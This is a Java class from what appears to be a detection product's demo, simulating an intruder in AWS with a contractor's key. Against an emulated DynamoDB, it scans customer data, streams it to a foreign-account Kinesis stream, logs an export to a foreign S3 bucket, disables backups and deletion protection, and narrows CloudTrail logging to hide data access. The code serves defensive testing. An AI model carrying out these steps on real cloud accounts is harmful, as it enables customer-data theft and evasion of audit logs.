package io.exposuremonitor.job.demo;

import io.exposuremonitor.job.simulation.Api;
import io.exposuremonitor.job.simulation.Call;
import io.exposuremonitor.job.simulation.JsonText;
import io.exposuremonitor.job.simulation.Table;
import java.time.Duration;
import java.util.Map;
import java.util.TreeMap;
import software.amazon.awssdk.services.cloudtrail.CloudTrailClient;
import software.amazon.awssdk.services.cloudtrail.model.AdvancedEventSelector;
import software.amazon.awssdk.services.cloudtrail.model.AdvancedFieldSelector;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.dynamodb.model.ScanResponse;

/**
 * An intruder with a contractor's access key. Calls that the emulated DynamoDB supports are really
 * made; the others only leave the record that AWS would write.
 */
final class Intruder {
  private static final int SEGMENTS = 4;
  private static final int LOOK = 5;
  private static final String BUCKET = "amzn-s3-demo-destination-bucket";
  private static final String FUNCTION = "contractor-sync";

  /** Time between two rounds of the scan, in story time. */
  private static final Duration BETWEEN_PAGES = Duration.ofSeconds(2);

  private final DynamoDbClient tables;
  private final CloudTrailClient trails;
  private final Trail trail;

  /** Waits for a stretch of story time. */
  @FunctionalInterface
  interface Pause {
    /**
     * @throws InterruptedException if the demo is stopped
     */
    void by(Duration stretch) throws InterruptedException;
  }

  /**
   * @param tables DynamoDB, called as the intruder
   * @param trails CloudTrail
   * @param trail records the calls that are not made
   */
  Intruder(DynamoDbClient tables, CloudTrailClient trails, Trail trail) {
    this.tables = tables;
    this.trails = trails;
    this.trail = trail;
  }

  /** Performs one act. */
  void act(Act act, Pause pause) throws InterruptedException {
    switch (act) {
      case RECON -> recon();
      case PEEK -> peek();
      case SCAN -> scan(pause);
      case EXPORT -> export();
      case FUNCTION -> attachFunction();
      case STREAM -> sendToStream();
      case RECOVERY -> removeRecovery();
      case BLINDFOLD -> narrowLogs();
    }
  }

  private void recon() {
    for (String name : tables.listTables().tableNames()) {
      tables.describeTable(describe -> describe.tableName(name));
    }
    forbidden(Company.REPORTS);
  }

  /** A denied call. It is only recorded, because the emulated DynamoDB denies nothing. */
  private void forbidden(Table table) {
    JsonText parameters = new JsonText().object().field("tableName", table.name()).endObject();
    trail.record(
        Call.onItems(Company.INTRUDER, Api.read("Scan"), table, parameters)
            .failing(
                "AccessDenied",
                "User: %s is not authorized to perform: dynamodb:Scan on resource: %s"
                    .formatted(Company.INTRUDER.id(), table.arn())));
  }

  private void peek() {
    for (Table table : new Table[] {Company.CUSTOMERS, Company.ORDERS}) {
      tables.executeStatement(
          select -> select.statement("SELECT * FROM \"" + table.name() + '"').limit(LOOK));
    }
    tables.executeStatement(
        select ->
            select.statement(
                "SELECT \"email\",\"phone\" FROM \""
                    + Company.CUSTOMERS.name()
                    + "\" WHERE begins_with(\"name\", 'A')"));
  }

  private void scan(Pause pause) throws InterruptedException {
    Map<Integer, Map<String, AttributeValue>> open = new TreeMap<>();
    for (int segment = 0; segment < SEGMENTS; segment++) {
      open.put(segment, Map.of());
    }
    while (!open.isEmpty()) {
      for (int segment : open.keySet().toArray(Integer[]::new)) {
        Map<String, AttributeValue> from = open.getOrDefault(segment, Map.of());
        ScanResponse page =
            tables.scan(
                scan ->
                    scan.tableName(Company.CUSTOMERS.name())
                        .totalSegments(SEGMENTS)
                        .segment(segment)
                        .exclusiveStartKey(from.isEmpty() ? null : from));
        if (page.lastEvaluatedKey().isEmpty()) {
          open.remove(segment);
        } else {
          open.put(segment, page.lastEvaluatedKey());
        }
      }
      pause.by(BETWEEN_PAGES);
    }
  }

  private void export() {
    Table loot = Company.CUSTOMERS;
    JsonText parameters = new JsonText().object().field("tableArn", loot.arn());
    parameters.field("s3Bucket", BUCKET).field("s3BucketOwner", Company.FOREIGN_ACCOUNT);
    parameters.field("s3Prefix", "out").field("exportFormat", "DYNAMODB_JSON");
    parameters.field("exportType", "FULL_EXPORT").endObject();
    JsonText response = new JsonText().object().object("exportDescription");
    response.field("exportArn", loot.arn() + "/export/01763805600000-1a2b3c4d");
    response.field("exportStatus", "IN_PROGRESS").field("tableArn", loot.arn());
    response.endObject().endObject();
    onTable("ExportTableToPointInTime", loot, parameters, response);
  }

  private void attachFunction() {
    String stream = Company.ORDERS.streamArn();
    JsonText parameters = new JsonText().object().field("eventSourceArn", stream);
    parameters.field("functionName", FUNCTION).field("enabled", true);
    parameters.field("batchSize", 100).field("startingPosition", "TRIM_HORIZON").endObject();
    JsonText response = new JsonText().object().field("eventSourceArn", stream);
    response.field(
        "functionArn",
        "arn:aws:lambda:" + Company.REGION + ':' + Company.ACCOUNT + ":function:" + FUNCTION);
    response.field("state", "Creating").endObject();
    Api api = Api.management("lambda", "CreateEventSourceMapping20150331", false);
    trail.record(
        Call.withoutResources(Company.INTRUDER, api, Company.REGION, parameters)
            .withResponse(response));
  }

  private void sendToStream() {
    tables.enableKinesisStreamingDestination(
        enable ->
            enable
                .tableName(Company.CUSTOMERS.name())
                .streamArn(
                    "arn:aws:kinesis:"
                        + Company.REGION
                        + ':'
                        + Company.FOREIGN_ACCOUNT
                        + ":stream/collect"));
  }

  private void removeRecovery() {
    String loot = Company.CUSTOMERS.name();
    tables.updateContinuousBackups(
        update ->
            update
                .tableName(loot)
                .pointInTimeRecoverySpecification(
                    recovery -> recovery.pointInTimeRecoveryEnabled(false)));
    tables.updateTable(update -> update.tableName(loot).deletionProtectionEnabled(false));
  }

  private void narrowLogs() {
    AdvancedFieldSelector management =
        AdvancedFieldSelector.builder().field("eventCategory").equalsValue("Management").build();
    AdvancedEventSelector only =
        AdvancedEventSelector.builder().name("Management only").fieldSelectors(management).build();
    trails.putEventSelectors(put -> put.trailName(Company.TRAIL).advancedEventSelectors(only));
    JsonText parameters = new JsonText().object().field("trailName", Company.TRAIL);
    parameters.array("advancedEventSelectors").object().field("name", "Management only");
    parameters.array("fieldSelectors").object().field("field", "eventCategory");
    parameters.array("equals").value("Management").endArray().endObject();
    parameters.endArray().endObject().endArray().endObject();
    Api api = Api.management("cloudtrail", "PutEventSelectors", false);
    trail.record(Call.withoutResources(Company.INTRUDER, api, Company.REGION, parameters));
    trail.narrow();
  }

  private void onTable(String name, Table table, JsonText parameters, JsonText response) {
    Call call = Call.onItems(Company.INTRUDER, Api.change(name), table, parameters);
    trail.record(call.withResponse(response));
  }
}
